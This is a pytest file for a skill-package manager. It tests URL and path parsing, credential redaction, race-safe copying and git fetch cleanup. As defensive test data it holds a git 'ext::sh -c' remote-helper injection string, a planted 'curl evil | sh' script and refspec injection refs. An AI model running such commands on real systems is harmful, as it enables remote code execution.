"""Sources of packages (SPEC §25.5, §30.1): a URL or a path by its syntax alone, credentials
parsed out once and never written or shown, every file copied or packed read from the pinned
source directory."""

from __future__ import annotations

import os
import random
import signal
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import hypothesis
import pytest
from click.testing import Result
from hypothesis import settings
from hypothesis import strategies as st

from agent_skills import SkillError
from agent_skills import packages as pkg
from agent_skills.packages import _sources
from conftest import GIT, ends_within, git, make_skill, needs_git

SECRET = "tok3nS3cret"


def hello(
    root: Path, name: str = "hello", body: str = "Hello.", version: str | None = None
) -> Path:
    extra = f"version: '{version}'\n" if version is not None else ""
    manifest = f"---\nname: {name}\ndescription: Says hello.\n{extra}---\n{body}\n"
    return make_skill(root, name, raw=manifest.encode(), files={"scripts/hi.sh": b"echo hi\n"})


# ---------------------------------------------------------------------------------------------
# a URL or a path, by its syntax


URLS = [
    ("https://host.invalid/org/repo//pdf-tools#v1.2.0", "https://host.invalid/org/repo"),
    ("http://host.invalid/org/repo.git//skills/pdf#main", "http://host.invalid/org/repo.git"),
    ("ssh://git@host.invalid/org/repo//pdf-tools#v1", "ssh://git@host.invalid/org/repo"),
    ("git://host.invalid/org/repo//pdf-tools#v1", "git://host.invalid/org/repo"),
    ("git@host.invalid:org/repo//pdf-tools#v1", "git@host.invalid:org/repo"),
    ("host.invalid:org/repo//pdf-tools#v1", "host.invalid:org/repo"),
    ("file:///srv/repo//pdf-tools#v1", "file:///srv/repo"),
]


@pytest.mark.parametrize(("text", "url"), URLS)
def test_a_url_is_a_url_whatever_folder_of_that_name_exists(
    tmp_path: Path, text: str, url: str
) -> None:
    # The text read as a relative path names a folder holding a skill: it is never used.
    shadow = tmp_path / text.split("#")[0]
    hello(shadow.parent, shadow.name)
    assert (tmp_path / text.split("#")[0] / "SKILL.md").is_file()
    parsed = pkg.parse_source(text, cwd=tmp_path)
    assert parsed == pkg.Source("git", url, text.split("//")[-1].split("#")[0], text.split("#")[1])
    assert pkg.is_url(text)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("./odd:name", "directory"),
        ("plain", "directory"),
        ("sub/dir", "directory"),
        ("a//b", "directory"),  # '//' in a path is a separator, not a SUBDIR
        ("pack.skill", "archive"),
        ("pack.zip", "archive"),
        ("pack.tar.gz", "archive"),
        ("x/pack.tgz", "archive"),
    ],
)
def test_a_path_is_a_path_and_its_kind_is_its_name(tmp_path: Path, text: str, kind: str) -> None:
    target = tmp_path / text
    if kind == "directory":
        target.mkdir(parents=True, exist_ok=True)
    else:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(b"")
    parsed = pkg.parse_source(text, cwd=tmp_path)
    assert parsed == pkg.Source(kind, os.path.abspath(tmp_path / text))  # type: ignore[arg-type]
    assert not pkg.is_url(text)


@pytest.mark.parametrize(
    "text",
    [
        "ext::sh -c touch% /tmp/x",
        "fd::17",
        "persistent-https::https://host/r",
        "transport::anything",
    ],
)
def test_git_remote_helpers_are_refused(tmp_path: Path, text: str) -> None:
    with pytest.raises(SkillError) as info:
        pkg.parse_source(text, cwd=tmp_path)
    assert info.value.code == "invalid_input"
    assert "remote helper" in info.value.message


def test_an_archive_named_path_that_is_missing_is_refused(tmp_path: Path) -> None:
    with pytest.raises(SkillError) as info:
        pkg.parse_source("gone.skill", cwd=tmp_path)
    assert info.value.code == "invalid_input"
    assert info.value.fields == {"source": "gone.skill"}


def test_a_local_repository_needs_a_directory(tmp_path: Path) -> None:
    (tmp_path / "file.txt").write_text("x")
    for text in ("file.txt#v1", "missing#v1", "missing//sub#v1"):
        with pytest.raises(SkillError) as info:
            pkg.parse_source(text, cwd=tmp_path)
        assert info.value.code == "invalid_input", text


@needs_git
def test_add_of_a_url_never_copies_the_folder_it_names(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    # The documented command with a folder of the same relative name in the workspace: the
    # install comes from the URL or fails, it never copies the folder.
    text = "https://127.0.0.1:9/org/repo//pdf-tools#v1.2.0"
    shadow = env["ws"] / text.split("#")[0]
    hello(shadow.parent, shadow.name, body="EVIL")
    result = run("add", text)
    assert result.exit_code == 1
    assert result.output.startswith("io_error: git fetch failed: ")
    assert not (env["ws"] / ".agents" / "skills" / "pdf-tools").exists()
    assert not (env["ws"] / "skills.lock.json").exists()


@needs_git
def test_add_of_a_file_url_installs_from_the_repository_not_the_folder(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    repo = env["tmp"] / "repo"
    repo.mkdir()
    git("init", "-q", "-b", "main", cwd=repo)
    hello(repo / "skills", "pdf-tools", body="FROM THE REPOSITORY")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "v1", cwd=repo)
    git("tag", "v1", cwd=repo)
    text = f"file://{repo}//skills#v1"
    shadow = env["ws"] / f"file:{repo}" / "skills"
    hello(shadow, "pdf-tools", body="EVIL")
    result = run("add", text)
    assert result.exit_code == 0, result.output
    installed = env["ws"] / ".agents" / "skills" / "pdf-tools" / "SKILL.md"
    assert "FROM THE REPOSITORY" in installed.read_text()


# ---------------------------------------------------------------------------------------------
# credentials (SPEC §30.1)


SECRET_URLS = [
    (f"https://user:{SECRET}@host.invalid/org/r.git", "https://host.invalid/org/r.git"),
    (f"https://{SECRET}@host.invalid/org/r.git", "https://host.invalid/org/r.git"),
    (f"https://oauth2:{SECRET}@host.invalid:8443/r", "https://host.invalid:8443/r"),
    (f"https://host.invalid/org/r.git?private_token={SECRET}", "https://host.invalid/org/r.git"),
    (f"http://u:{SECRET}@host.invalid/r?t={SECRET}&x=1", "http://host.invalid/r"),
    (f"ftp://u:{SECRET}@host.invalid/r", "ftp://host.invalid/r"),
    (f"ssh://git:{SECRET}@host.invalid/r", "ssh://git@host.invalid/r"),
    (f"git:{SECRET}@host.invalid:org/r", "git@host.invalid:org/r"),
]


@pytest.mark.parametrize(("url", "public"), SECRET_URLS)
@pytest.mark.parametrize("suffix", ["", "//skills/x", "#v1", "//skills#v1"])
def test_credentials_are_parsed_out_and_never_shown(url: str, public: str, suffix: str) -> None:
    parsed = pkg.parse_source(url + suffix)
    assert parsed.kind == "git"
    assert parsed.location == public
    assert parsed.url == url  # only git is given them
    for text in (parsed.location, parsed.origin_source, parsed.shown, repr(parsed), str(parsed)):
        assert SECRET not in text
    assert "***" in parsed.shown
    assert parsed == pkg.Source("git", public, parsed.subdir, parsed.ref)


def test_a_url_without_credentials_is_kept_as_written() -> None:
    for text in ("https://host/r.git", "ssh://git@host/r", "git@host:org/r.git", "file:///r"):
        parsed = pkg.parse_source(text)
        assert parsed.location == text
        assert parsed.fetch_url is None
        assert parsed.shown == text


@pytest.mark.parametrize(
    "text",
    [
        f"https://user:{SECRET}@host/r#-x",
        f"https://user:{SECRET}@host/r#",
        f"https://user:{SECRET}@host/r//",
        f"-https://user:{SECRET}@host/r",
        f"https://host/r?token={SECRET}#",
    ],
)
def test_errors_of_parsing_never_hold_the_credentials(text: str) -> None:
    with pytest.raises(SkillError) as info:
        pkg.parse_source(text)
    assert info.value.code == "invalid_input"
    assert SECRET not in info.value.message
    assert SECRET not in str(info.value.fields)


def test_redact_hides_user_information_and_queries_in_any_text() -> None:
    message = (
        f"fatal: unable to access 'https://user:{SECRET}@host/r.git/': the remote said no; "
        f"see ssh://me:{SECRET}@h/x and 'https://h/y?token={SECRET}&a=b'."
    )
    shown = pkg.redact(message)
    assert SECRET not in shown
    assert shown == (
        "fatal: unable to access 'https://***@host/r.git/': the remote said no; "
        "see ssh://***@h/x and 'https://h/y?***'."
    )


@needs_git
@pytest.mark.parametrize(("url", "public"), SECRET_URLS[:5])
def test_git_errors_of_add_never_hold_the_credentials(
    run: Callable[..., Result], env: dict[str, Path], url: str, public: str
) -> None:
    # Port 9 on loopback refuses at once: git fails and names the URL in its message.
    unreachable = url.replace("host.invalid", "127.0.0.1:9").replace(":8443", "")
    for args in ([unreachable], [unreachable + "//s#v1"], [unreachable, "--skill", "x"]):
        result = run("add", *args)
        assert result.exit_code == 1
        assert result.output.startswith("io_error: git fetch failed: ")
        assert SECRET not in result.output
    assert not (env["ws"] / "skills.lock.json").exists()


@pytest.fixture
def credentialed_repo(env: dict[str, Path]) -> Iterator[dict[str, Any]]:
    """A repository reachable as ``https://user:SECRET@example.invalid/org/skills`` through
    git's ``insteadOf`` rewriting (set in the environment), and without the credentials."""
    if GIT is None:
        pytest.skip("git is not on PATH")
    repo = env["tmp"] / "origin"
    repo.mkdir()
    git("init", "-q", "-b", "main", cwd=repo)
    hello(repo, version="1.0")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "v1", cwd=repo)
    rewrites = {
        f"https://user:{SECRET}@example.invalid/org/skills": f"file://{repo}",
        "https://example.invalid/org/skills": f"file://{repo}",
    }
    config = {"GIT_CONFIG_COUNT": str(len(rewrites))}
    for i, (given, real) in enumerate(rewrites.items()):
        config[f"GIT_CONFIG_KEY_{i}"] = f"url.{real}.insteadOf"
        config[f"GIT_CONFIG_VALUE_{i}"] = given
    old = {k: os.environ.get(k) for k in config}
    os.environ.update(config)
    try:
        yield {"path": repo, "url": f"https://user:{SECRET}@example.invalid/org/skills"}
    finally:
        for k, v in old.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


def test_credentials_reach_git_for_add_and_never_the_lock_and_update_uses_none(
    run: Callable[..., Result],
    env: dict[str, Path],
    credentialed_repo: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    calls: list[list[str]] = []
    real_run = subprocess.run

    def spy(args: Any, *rest: Any, **kwargs: Any) -> Any:
        if isinstance(args, list) and args and str(args[0]).endswith("git"):
            calls.append([str(a) for a in args])
        return real_run(args, *rest, **kwargs)

    monkeypatch.setattr(_sources.subprocess, "run", spy)
    result = run("add", credentialed_repo["url"])
    assert result.exit_code == 0, result.output
    assert SECRET not in result.output
    assert any(credentialed_repo["url"] in c for c in calls)  # git got them for this clone
    lock_text = (env["ws"] / "skills.lock.json").read_text()
    assert SECRET not in lock_text
    entry = pkg.read_lock(env["ws"] / "skills.lock.json")["skills"][0]
    assert entry["origin"]["source"] == "https://example.invalid/org/skills"
    assert entry["version"] == "1.0"
    installed = env["ws"] / ".agents" / "skills" / "hello"
    assert not any(
        SECRET in p.read_text(errors="replace") for p in installed.rglob("*") if p.is_file()
    )
    calls.clear()
    (credentialed_repo["path"] / "hello" / "SKILL.md").write_text(
        "---\nname: hello\ndescription: Says hello.\nversion: '1.1'\n---\nHello again.\n"
    )
    git("commit", "-qam", "v1.1", cwd=credentialed_repo["path"])
    result = run("update")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0] == f"updated hello (1.0 -> 1.1) in {installed}"
    assert calls and all(SECRET not in " ".join(c) for c in calls)
    assert "Hello again." in (installed / "SKILL.md").read_text()
    assert SECRET not in (env["ws"] / "skills.lock.json").read_text()


# ---------------------------------------------------------------------------------------------
# copies from the pinned source directory


def test_a_sparse_huge_manifest_in_a_source_is_too_large_for_add_and_pack(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    skill = hello(env["tmp"] / "src")
    os.truncate(skill / "SKILL.md", 8 << 30)  # 8 GiB, sparse
    with pytest.raises(SkillError) as info:
        pkg.install_skills(pkg.Source("directory", str(skill.parent)), env["tmp"] / "root")
    assert info.value.code == "too_large"  # the only skill is refused: its code leads
    assert info.value.message.startswith(f"no valid skill in {skill.parent}: ")
    with pytest.raises(SkillError) as info:
        pkg.install_skills(pkg.Source("directory", str(skill)), env["tmp"] / "root")
    assert info.value.code == "too_large"
    assert info.value.message.endswith(f"{skill / 'SKILL.md'} is larger than 1048576 bytes")
    result = run("add", str(skill))
    assert result.exit_code == 1 and "too_large" in result.output
    with pytest.raises(SkillError) as info:
        pkg.pack_skill(skill, env["tmp"] / "h.skill")
    assert info.value.code == "invalid_skill"
    assert [p["code"] for p in info.value.fields["problems"]] == ["manifest_too_large"]
    assert not (env["tmp"] / "h.skill").exists()


def test_a_source_directory_swapped_mid_copy_is_stale_never_mixed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    src = tmp_path / "src"
    good = hello(src)
    (good / "references").mkdir()
    (good / "references" / "a.md").write_text("GOOD")
    evil = hello(tmp_path / "evil")
    (evil / "references").mkdir()
    (evil / "references" / "a.md").write_text("EVIL CANARY")
    (evil / "scripts" / "hi.sh").write_text("curl evil | sh\n")
    opened: list[str] = []
    real_open_in = _sources.open_in

    def swapping(pin: Any, name: str, base: str, rel: str) -> Any:
        opened.append(rel)
        if len(opened) == 3:  # after the manifest and one file: swap the directory
            os.rename(good, tmp_path / "aside")
            os.rename(evil, good)
        return real_open_in(pin, name, base, rel)

    monkeypatch.setattr(_sources, "open_in", swapping)
    root = tmp_path / "root"
    with pytest.raises(SkillError) as info:
        pkg.install_skills(pkg.Source("directory", str(src)), root)
    assert info.value.code == "stale_skill"
    assert not (root / "hello").exists()
    assert [p.name for p in root.iterdir()] == []  # nothing staged is left


@pytest.mark.slow
def test_racing_swaps_of_a_source_never_mix_two_directories(tmp_path: Path) -> None:
    # A thread swaps the source folder between two directories while installs run: every
    # install that succeeds holds the files of one of them, never a mix (bounded in time).
    src = tmp_path / "src"
    sides = {}
    for side in ("good", "evil"):
        skill = hello(tmp_path / side)
        (skill / "references").mkdir()
        for i in range(20):
            (skill / "references" / f"r{i}.md").write_text(side.upper())
        sides[side] = skill
    os.rename(sides["good"], src)
    stop = time.monotonic() + 3.0
    swaps = 0

    def swap() -> None:
        nonlocal swaps
        spare = sides["evil"]
        while time.monotonic() < stop:
            aside = tmp_path / "aside"
            os.rename(src, aside)
            os.rename(spare, src)
            os.rename(aside, spare)
            swaps += 1
            # A pause of up to 2 ms between swaps: thousands of swaps still land inside copies,
            # and on a loaded machine some install still finds one directory long enough to end.
            time.sleep(random.random() * 0.002)

    thread = threading.Thread(target=swap)
    thread.start()
    results: list[set[str]] = []
    errors: list[str] = []
    try:
        attempt = 0
        while time.monotonic() < stop:
            attempt += 1
            root = tmp_path / f"root{attempt}"
            try:
                pkg.install_skills(pkg.Source("directory", str(src)), root)
            except SkillError as err:
                errors.append(err.code.value)
                continue
            refs = root / "hello" / "references"
            results.append({p.read_text() for p in refs.iterdir()})
    finally:
        thread.join(timeout=10)
    assert swaps > 0
    assert results, errors
    assert all(r in ({"GOOD"}, {"EVIL"}) for r in results), results
    assert set(errors) <= {"stale_skill", "not_found", "invalid_skill", "path_escape"}, errors


def test_pack_reads_the_directory_it_validated(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from agent_skills.packages import _pack

    skill = hello(tmp_path / "src")
    evil = hello(tmp_path / "evil", body="EVIL CANARY")
    real = _pack.refuse_invalid

    def then_swap(path: Path, name: str | None = None) -> None:
        real(path, name)
        os.rename(skill, tmp_path / "aside")
        os.rename(evil, skill)

    monkeypatch.setattr(_pack, "refuse_invalid", then_swap)
    with pytest.raises(SkillError) as info:
        pkg.pack_skill(skill, tmp_path / "h.skill")
    assert info.value.code == "stale_skill"
    assert not (tmp_path / "h.skill").exists()
    monkeypatch.setattr(_pack, "refuse_invalid", real)
    out = pkg.pack_skill(skill, tmp_path / "h.skill")
    with zipfile.ZipFile(out) as zf:
        assert b"EVIL CANARY" in zf.read("hello/SKILL.md")  # the directory there now, whole


# Sources that hold a credential whatever their form, a URL git reads or text that only looks
# like one (a mistyped scheme, a one-letter user, a single slash): the canary never leaves.
_CANARY = st.text("ABCDEFGHJKLMNPQRSTUVWXYZ23456789", min_size=8, max_size=16).map(
    lambda t: f"CANARY{t}"
)
_FORMS = [
    "https://u:{t}@host.invalid/org/r",
    "https://{t}@host.invalid/org/r",
    "HTTPS://u:{t}@host.invalid/r",
    "ssh://git:{t}@host.invalid/r",
    "u:{t}@github.com:org/repo",
    "git:{t}@host.invalid:org/r",
    "https//u:{t}@host.invalid/r",
    "https//{t}@host.invalid/r",
    "https:/u:{t}@host.invalid/r",
    "https:/{t}@host.invalid/r",
    "http:u:{t}@host.invalid/r",
    "htps:/u:{t}@host.invalid/r",
    "./vendor/u:{t}@host/r",
    "https://host.invalid/r?token={t}",
    "x:{t}@h:r",
]


@settings(max_examples=200, deadline=None)
@hypothesis.given(
    form=st.sampled_from(_FORMS),
    token=_CANARY,
    suffix=st.sampled_from(["", "//skills/x", "#v1", "//skills#v1", "#", "//"]),
)
def test_no_source_text_lets_its_credentials_reach_an_error_the_output_or_the_lock(
    form: str, token: str, suffix: str
) -> None:
    text = form.format(t=token) + suffix
    assert token not in pkg.redact(text)
    try:
        parsed = pkg.parse_source(text, cwd="/nonexistent-base")
    except SkillError as exc:
        assert exc.code == "invalid_input"
        assert token not in exc.message and token not in str(exc.fields) and token not in str(exc)
        return
    for shown in (parsed.location, parsed.origin_source, parsed.shown, repr(parsed), str(parsed)):
        assert token not in shown, (text, shown)


def test_the_cli_never_echoes_credentials_of_a_source_that_is_no_url(
    run: Callable[..., Result],
) -> None:
    for text, shown in (
        (f"u:{SECRET}@host.invalid:org/repo", None),  # a URL (git's form): git says why
        (f"https//u:{SECRET}@host.invalid/r", "https//***@host.invalid/r"),
        (f"./u:{SECRET}@host.invalid/r", "./***@host.invalid/r"),
        (f"https:/u:{SECRET}@host.invalid/r", None),  # git's form, host "https"
    ):
        result = run("add", text)
        assert result.exit_code != 0
        assert SECRET not in result.output, result.output
        if shown is not None:
            assert result.output == (f"invalid_input: {shown} does not exist and is not a URL\n"), (
                result.output
            )


@pytest.mark.parametrize("depth", [65, 66, 100])
def test_a_file_nested_too_deep_fails_add_and_pack_with_the_depth(
    run: Callable[..., Result], env: dict[str, Path], depth: int
) -> None:
    skill = hello(env["tmp"] / "src")
    deep = skill.joinpath(*["d"] * depth)
    deep.mkdir(parents=True)
    (deep / "f.md").write_text("deep\n")
    with pytest.raises(SkillError) as info:
        pkg.pack_skill(skill, env["tmp"] / "h.skill")
    assert info.value.code == "too_large"
    assert info.value.fields == {"path": str(skill), "max_depth": 64}
    assert "levels deep" in info.value.message and "10000 files" not in info.value.message
    assert not (env["tmp"] / "h.skill").exists()
    result = run("add", str(skill))
    assert result.exit_code == 1
    assert "more than 64 levels deep" in result.output and "10000" not in result.output


def test_a_file_64_levels_down_is_packed(env: dict[str, Path]) -> None:
    skill = hello(env["tmp"] / "src")
    deep = skill.joinpath(*["d"] * 63)
    deep.mkdir(parents=True)
    (deep / "f.md").write_text("deep\n")
    packed = pkg.pack_skill(skill, env["tmp"] / "h.skill")
    with zipfile.ZipFile(packed) as archive:
        assert "hello/" + "d/" * 63 + "f.md" in archive.namelist()


@pytest.fixture
def http_repo(tmp_path: Path) -> Iterator[tuple[str, str]]:
    """A repository served over HTTP on 127.0.0.1 (git's "dumb" protocol: static files, no
    shallow fetch), holding one skill on ``main`` and the tag ``v1``: ``(base URL, commit)``."""
    import functools
    import http.server

    work = tmp_path / "work"
    make_skill(work, "hello")
    git("init", "-q", "-b", "main", cwd=work)
    git("add", "-A", cwd=work)
    git("commit", "-qm", "one", cwd=work)
    git("tag", "-a", "v1", "-m", "v1", cwd=work)
    commit = git("rev-parse", "HEAD", cwd=work)
    served = tmp_path / "served"
    served.mkdir()
    git("clone", "-q", "--bare", str(work), str(served / "repo.git"), cwd=tmp_path)
    git("update-server-info", cwd=served / "repo.git")
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(served))
    handler.log_message = lambda *a: None  # type: ignore[attr-defined]
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}/repo.git", commit
    finally:
        server.shutdown()
        server.server_close()


@needs_git
@pytest.mark.parametrize("ref", ["", "#main", "#v1", "#commit"])
def test_a_fetch_writes_no_credential_anywhere(
    http_repo: tuple[str, str], tmp_path: Path, ref: str
) -> None:
    # SPEC §30.1: git was given the URL with its credentials by `git clone`, which writes it to
    # the repository's configuration first: a kill -9 while it fetched left the token on disk.
    # The repository is now made by `git init` and filled by a fetch of the URL itself.
    where, commit = http_repo
    ref = f"#{commit}" if ref == "#commit" else ref
    for secret_url in (f"http://alice:S3cretTok@{where}", f"http://S3cretTok@{where}"):
        source = _sources.parse_source(secret_url + ref)
        assert source.fetch_url is not None and "S3cretTok" not in source.shown
        dest = tmp_path / f"dest-{len(list(tmp_path.iterdir()))}"
        assert _sources._clone(source, str(dest)) == commit
        assert (dest / "hello" / "SKILL.md").is_file()
        leaked = [
            p.relative_to(dest)
            for p in dest.rglob("*")
            if p.is_file() and b"S3cretTok" in p.read_bytes()
        ]
        assert leaked == []


# ---------------------------------------------------------------------------------------------
# what a killed add leaves of a git fetch


def test_fetch_folders_no_process_holds_are_swept(tmp_path: Path) -> None:
    import fcntl

    temp = tmp_path / "temp"
    temp.mkdir()

    def folder(name: str, *, lock: str = "file", age: float = 120.0) -> Path:
        where = temp / name
        (where / "clone" / "hello").mkdir(parents=True)
        (where / "clone" / "hello" / "SKILL.md").write_text("left\n")
        if lock == "file":
            (where / ".lock").write_text("")
        elif lock == "fifo":
            os.mkfifo(where / ".lock")
        elif lock == "dir":
            (where / ".lock").mkdir()
        elif lock == "written":
            (where / ".lock").write_text("not ours")
        if age:
            os.utime(where, (time.time() - age, time.time() - age))
        return where

    stale = folder("agent-skills-git-stale_01")
    kept = [
        folder("agent-skills-git-fresh_01", age=0),  # (a folder of this moment: maybe unlocked)
        folder("agent-skills-git-held_001"),
        folder("agent-skills-git-nolock01", lock="none", age=3600),  # never locked: not ours
        folder("agent-skills-git-fifo_001", lock="fifo"),  # never opened to block
        folder("agent-skills-git-lockdir1", lock="dir"),
        folder("agent-skills-git-written1", lock="written"),
        folder("agent-skills-git-mine"),  # not a name mkdtemp gives
        folder("someone-elses-git-x"),
    ]
    target = folder("agent-skills-git-target01")
    target.rename(tmp_path / "outside")
    (temp / "agent-skills-git-link0001").symlink_to(tmp_path / "outside")
    holder = os.open(temp / "agent-skills-git-held_001" / ".lock", os.O_RDONLY)
    try:
        fcntl.flock(holder, fcntl.LOCK_EX)
        ends_within(lambda: _sources._sweep_git_work(str(temp)), 20)
    finally:
        os.close(holder)
    assert not stale.exists()
    assert sorted(p.name for p in temp.iterdir()) == sorted(
        [p.name for p in kept] + ["agent-skills-git-link0001"]
    )
    assert (tmp_path / "outside" / "clone" / "hello" / "SKILL.md").read_text() == "left\n"
    assert all((p / "clone" / "hello" / "SKILL.md").is_file() for p in kept)


# `agent-skills add SRC` in a process that SIGKILLs itself once the source is fetched.
_KILLED_FETCH = (
    "import os, signal, sys\n"
    "from agent_skills.packages import _sources\n"
    "def killed(*a, **k):\n"
    "    os.kill(os.getpid(), signal.SIGKILL)\n"
    "_sources.source_skills = killed\n"
    "from agent_skills.cli import main\n"
    "sys.argv = ['agent-skills', 'add', sys.argv[1]]\n"
    "main()\n"
)


@needs_git
def test_the_next_add_removes_what_a_killed_add_fetched(
    env: dict[str, Path], run: Callable[..., Result]
) -> None:
    repo = env["tmp"] / "repo"
    hello(repo)
    git("init", "-q", cwd=repo)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "one", cwd=repo)
    temp = env["tmp"] / "temp"
    temp.mkdir()
    child_env = {**os.environ, "HOME": str(env["home"]), "TMPDIR": str(temp)}
    url = f"file://{repo}"
    killed = subprocess.run(
        [sys.executable, "-c", _KILLED_FETCH, url],
        cwd=env["ws"],
        env=child_env,
        capture_output=True,
        timeout=60,
    )
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    left = [p for p in temp.iterdir() if p.name.startswith("agent-skills-git-")]
    assert len(left) == 1  # the clone a kill left behind
    then = time.time() - 120
    os.utime(left[0], (then, then))  # (a minute and more ago)
    done = subprocess.run(
        [sys.executable, "-m", "agent_skills", "add", url],
        cwd=env["ws"],
        env=child_env,
        capture_output=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert [p.name for p in temp.iterdir()] == []  # its own removed too
    assert (env["ws"] / ".agents" / "skills" / "hello" / "SKILL.md").is_file()


@pytest.mark.parametrize(
    "ref",
    ["main:refs/heads/evil", "+main", "main~1", "main^", "HEAD@{1}", "a..b", "a b", "x.lock", ".x"],
)
def test_a_ref_that_is_no_name_is_refused(ref: str) -> None:
    # A refspec (`+`, `:`) or a revision expression (`~`, `^`, `@{`) is no branch, tag or
    # commit name: refused as git's rules for ref names refuse it, before git runs.
    with pytest.raises(SkillError) as info:
        _sources.parse_source(f"https://example.invalid/r.git#{ref}")
    assert info.value.code == "invalid_input"
    assert "is not a branch, tag or commit name" in info.value.message


@needs_git
def test_a_ref_is_looked_for_in_the_repository_only(tmp_path: Path) -> None:
    # Branches, tags and commit ids of the remote; never what the fetch made locally
    # (FETCH_HEAD, the remote-tracking names), never a revision expression.
    repo = tmp_path / "repo"
    hello(repo)
    git("init", "-q", "-b", "main", cwd=repo)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "one", cwd=repo)
    first = git("rev-parse", "HEAD", cwd=repo)
    git("branch", "aaa", cwd=repo)
    (repo / "hello" / "SKILL.md").write_text("---\nname: hello\ndescription: Two.\n---\nTwo.\n")
    git("commit", "-qam", "two", cwd=repo)
    second = git("rev-parse", "HEAD", cwd=repo)
    url = f"file://{repo}"
    for ref, commit in (("main", second), ("aaa", first), (first, first), (first[:8], first)):
        dest = tmp_path / f"ok-{ref}"
        assert _sources._clone(_sources.parse_source(f"{url}#{ref}"), str(dest)) == commit
    for ref in ("origin/aaa", "FETCH_HEAD", "refs/remotes/origin/main", "nothing-here"):
        dest = tmp_path / f"no-{ref.replace('/', '_')}"
        with pytest.raises(SkillError) as info:
            _sources._clone(_sources.parse_source(f"{url}#{ref}"), str(dest))
        assert (info.value.code, info.value.fields["ref"]) == ("not_found", ref)
